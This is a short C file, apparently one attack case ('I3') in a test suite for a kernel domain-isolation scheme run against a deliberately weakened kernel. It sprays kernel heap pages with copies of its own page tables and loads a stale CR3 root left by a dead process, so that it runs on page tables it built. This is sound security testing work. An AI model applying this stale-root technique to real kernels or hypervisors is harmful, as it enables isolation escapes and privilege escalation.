/*
 * I3: a root that a process has left behind may still be a CR3-target value, which a domain loads without an exit. In a sound system a
 * domain's view has nothing at that address. In the weakened kernel the heap has the machine's addresses, too: once it grows into the memory
 * of the dead process, that address leads to what the driver has put there, a root of its own making.
 */
#include "attack.h"

enum { PAGES = 128, WORDS = LVD_PAGE_SIZE / 8 };
void *__kmalloc(size_t size, gfp_t flags);

static void attack(void) {
    const u64 *own = (const u64 *)(window_of(attack) + LVD_WINDOW_PAGE_TABLES); /* the root is the first of the tables */
    u64 *pages = __kmalloc(PAGES * LVD_PAGE_SIZE, 0), dead = other_root();

    if (!pages)
        return;
    for (u32 n = 0; n < PAGES * WORDS; n++)
        pages[n] = own[n % WORDS];
    asm volatile("movq %0, %%cr3\n\tmovq %1, %%cr3" : : "r"(dead), "r"(latest_root) : "memory");
    _printk("attack: ran on a page-table root of my own\n");
}
